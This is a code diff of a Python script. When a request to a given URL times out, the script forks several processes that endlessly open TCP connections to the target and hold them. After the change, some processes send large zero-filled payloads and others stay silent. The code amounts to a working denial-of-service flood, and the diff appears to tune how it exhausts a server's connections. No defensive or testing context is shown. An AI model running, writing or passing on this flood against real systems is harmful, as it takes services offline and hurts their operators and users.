@@ -14,12 +14,13 @@ try:
     print(urllib.request.urlopen(sys.argv[1] + "?" + "&".join(sys.argv[2:]), timeout=2).read())
 except TimeoutError:
     url = urlsplit(sys.argv[1])
-    for _ in range(2):
-        os.fork()
+    talks = os.fork()
+    os.fork()
     held = []
     while True:
         try:
             held.append(socket.create_connection((url.hostname, url.port)))
-            held[-1].sendall(bytes(1 << 18))
+            if talks:
+                held[-1].sendall(bytes(1 << 18))
         except OSError:
             pass
